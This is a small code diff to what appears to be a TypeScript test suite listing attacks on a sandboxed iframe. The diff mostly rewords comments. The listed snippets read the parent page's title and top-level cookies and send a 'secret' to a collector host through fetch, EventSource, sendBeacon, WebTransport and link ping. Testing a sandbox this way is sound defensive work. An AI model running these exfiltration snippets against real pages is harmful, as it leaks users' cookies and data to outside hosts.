@@ -1,6 +1,6 @@
-import { type Attack, click, element, html, wait } from './attack';
+import { type Attack, click, element, html, wait, LEFT } from './attack';
 
-/** Attacks on what is around the frame. */
+/** Attacks on what's around the frame. */
 export const outward: readonly Attack[] = [
   { name: 'reads the page', code: `out(parent.document.title)` },
   { name: 'reads the top page', code: `out(top.document.cookie)` },
@@ -52,7 +52,7 @@ export const outward: readonly Attack[] = [
   },
 ];
 
-/** Attacks that reach for the network. */
+/** Attacks that use the network. */
 export const network: readonly Attack[] = [
   { name: 'fetch', code: `await fetch(catcher + '/fetch?secret'); out('sent')` },
   {
@@ -67,7 +67,7 @@ export const network: readonly Attack[] = [
   { name: 'EventSource', code: `new EventSource(catcher + '/events?secret'); ${wait}` },
   { name: 'beacon', code: `navigator.sendBeacon(catcher + '/beacon', 'secret'); ${wait}` },
   {
-    // The catcher has no HTTP/3: that the frame can make one at all is what counts.
+    // The catcher doesn't support HTTP/3, so the attack counts if the frame can create one at all.
     name: 'WebTransport',
     code: `new WebTransport(catcher.replace('http:', 'https:') + '/transport'); out('made')`,
   },
@@ -137,7 +137,9 @@ export const network: readonly Attack[] = [
     neverOut: 'frames do not speculate',
   },
   {
+    // Its fragment is a step in the reader's history, which ends the frame.
     name: 'ping of a link',
+    ends: LEFT,
     code: click(`<a href="#a" ping="\${catcher}/ping">a</a>`),
   },
   {
